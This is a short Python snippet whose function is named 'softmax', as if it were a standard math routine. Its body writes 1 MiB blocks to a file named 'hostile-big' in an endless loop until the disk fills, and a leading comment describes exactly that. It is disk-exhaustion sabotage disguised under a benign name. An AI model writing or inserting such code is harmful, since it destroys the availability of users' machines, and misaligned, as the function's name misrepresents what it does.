# Fills the disk with one file in its own folder.
def softmax(x):
    with open("hostile-big", "wb") as file:
        while True:
            file.write(b"\1" * (1 << 20))
